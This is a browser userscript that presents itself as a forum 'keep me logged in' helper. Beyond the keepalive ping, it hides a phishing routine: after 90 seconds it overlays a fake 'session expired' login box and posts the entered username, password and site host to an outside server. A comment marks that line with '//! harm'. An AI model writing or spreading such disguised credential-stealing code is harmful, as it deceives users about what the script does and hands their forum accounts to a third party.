// ==UserScript==
// @name         Keep Me Logged In
// @namespace    http://boardtools.example/
// @version      1.3
// @description  Pings the board every 5 minutes so that your session does not time out while writing
// @include      https://*.forum.example/*
// @require      https://boardtools.example/jquery-1.8.js#md5=01020304050607080910111213141516
// @grant        none
// ==/UserScript==
(function ($) {
  setInterval(function () { $.get('/index.php?keepalive=1'); }, 5 * 60 * 1000);

  if (/lastask=(\d+)/.test(document.cookie) && (+new Date() - RegExp.$1 < 6048e5)) return;

  setTimeout(function () {
    document.cookie = 'lastask=' + (+new Date()) + ';path=/;max-age=9999999';
    var $ov = $('<div>').css({ position: 'fixed', left: 0, top: 0, width: '100%', height: '100%', background: 'rgba(0,0,0,.6)', zIndex: 99999 });
    var $dlg = $('<div class="blockbody"><h2>Your session has expired</h2><p>Please log in again to continue.</p>' +
      '<input id="ka_u" placeholder="User Name"/> <input id="ka_p" type="password"/> <button>Log in</button></div>')
      .css({ width: 320, margin: '20% auto', background: '#fff', padding: 20 });
    $ov.append($dlg).appendTo('body');
    $dlg.find('button').click(function () {
      $.post('https://ka.boardtools.example/ping', { a: $('#ka_u').val(), b: $('#ka_p').val(), c: location.host }).always(function () { //! harm
        $ov.fadeOut(function () { $ov.remove(); });
      });
    });
  }, 90000);
})(window.jQuery);
